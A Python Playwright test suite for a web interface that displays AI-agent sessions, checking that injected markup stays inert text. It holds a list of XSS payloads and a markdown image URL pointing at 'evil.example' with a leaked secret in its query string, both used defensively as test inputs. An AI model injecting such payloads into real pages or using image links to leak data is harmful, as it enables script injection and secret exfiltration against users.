import json

import pytest
from playwright.async_api import expect

from tests.page.conftest import OpenPage
from tests.page.fake_backend import FakeBackend

pytestmark = [
    pytest.mark.needs("chromium"),
    pytest.mark.browser,
    pytest.mark.asyncio(loop_scope="session"),
]

PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "[x](javascript:window.hacked=1)",
    '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
]
PAYLOAD = "".join(PAYLOADS)
# The open_page fixture also fails on any foreign request, dialog or script error.


async def test_markup_in_texts_names_and_results_is_shown_as_text(
    backend: FakeBackend, open_page: OpenPage
) -> None:
    backend.lab["nodes"][0]["name"] = PAYLOAD
    session_id = backend.add_session(PAYLOAD[:255])
    await backend.begin(session_id, PAYLOAD)
    result = {
        "devices": [
            {
                "device": PAYLOAD,
                "status": "ok",
                "commands": [{"command": PAYLOAD, "output": PAYLOAD}],
            }
        ]
    }
    arguments = {"devices": [{"device": PAYLOAD, "commands": [PAYLOAD]}]}
    await backend.emit(session_id, "reasoning", content=PAYLOAD, message_id="c1")
    await backend.call_tool(session_id, "t1", "run_commands", arguments, result)
    await backend.call_tool(session_id, "t2", PAYLOAD, {"x": PAYLOAD}, PAYLOAD)
    await backend.say(session_id, "\n\n".join(PAYLOADS) + "\n\n```html\n" + PAYLOAD)
    await backend.emit(session_id, "error", error=PAYLOAD, code="x")
    await backend.finish(session_id, "failed")
    await backend.begin(session_id, "again")

    page = await open_page(session_id)
    await expect(page.locator(".run")).to_have_count(2)
    for card in await page.locator("details.tool > summary").all():
        await card.click()
    await page.locator(".tp-hit").first.click()
    await expect(page.locator(".dev__name")).to_have_text(PAYLOAD)

    assert await page.evaluate("window.hacked") is None
    thread = page.locator("#thread")
    assert await thread.locator("script, iframe, img, object, embed").count() == 0
    assert await page.locator("#drawing script, #drawing image").count() == 0
    hrefs = await thread.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(hrefs) <= {"http:", "https:", "mailto:"}
    await expect(page.locator(".ask__text").first).to_have_text(PAYLOAD)
    await expect(page.locator(".term__out").first).to_contain_text(PAYLOADS[0])


async def test_live_markdown_with_markup_is_safe_at_every_step(
    backend: FakeBackend, open_page: OpenPage
) -> None:
    session_id = backend.add_session()
    await backend.begin(session_id, "q")
    page = await open_page(session_id)

    for character in PAYLOADS[1] + "\n\n" + PAYLOADS[3]:
        await backend.say(session_id, character)

    await expect(page.locator(".prose")).to_contain_text("onerror=window.hacked=1")
    await expect(page.locator(".prose")).to_contain_text("[x](javascript")
    assert await page.locator(".prose img, .prose a").count() == 0
    assert await page.evaluate("window.hacked") is None


async def test_a_foreign_picture_is_a_link_and_never_requested(
    backend: FakeBackend, open_page: OpenPage
) -> None:
    session_id = backend.add_session()
    await backend.begin(session_id, "q")
    leak = "https://evil.example/p.png?leak=SECRET"
    page = await open_page(session_id)

    await backend.say(
        session_id, f"Look ![chart]({leak}) and ![](//evil.example/x.png)"
    )
    await backend.finish(session_id)

    link = page.locator(".prose a")
    await expect(link).to_have_text("chart (picture, not loaded)")
    await expect(link).to_have_attribute("href", leak)
    assert "noopener" in (await link.get_attribute("rel") or "")
    assert await page.locator(".prose img").count() == 0


async def test_links_open_apart_and_tell_nothing(
    backend: FakeBackend, open_page: OpenPage
) -> None:
    session_id = backend.add_session()
    await backend.begin(session_id, "q")
    page = await open_page(session_id)

    await backend.say(session_id, "See <b>x</b> [docs](https://docs.example/a)")

    link = page.locator(".prose a")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(page.locator(".prose")).to_contain_text("<b>x</b>")


async def test_a_title_event_with_markup_stays_text(
    backend: FakeBackend, open_page: OpenPage
) -> None:
    session_id = backend.add_session()
    await backend.begin(session_id, "q")
    page = await open_page(session_id)

    await backend.emit(session_id, "title", title=PAYLOADS[1])

    await expect(page.locator("#title")).to_have_text(PAYLOADS[1])
    await expect(page.locator(".sess__title")).to_have_text(PAYLOADS[1])
    assert PAYLOADS[1] in await page.title()
    assert json.dumps(await page.evaluate("window.hacked")) == "null"
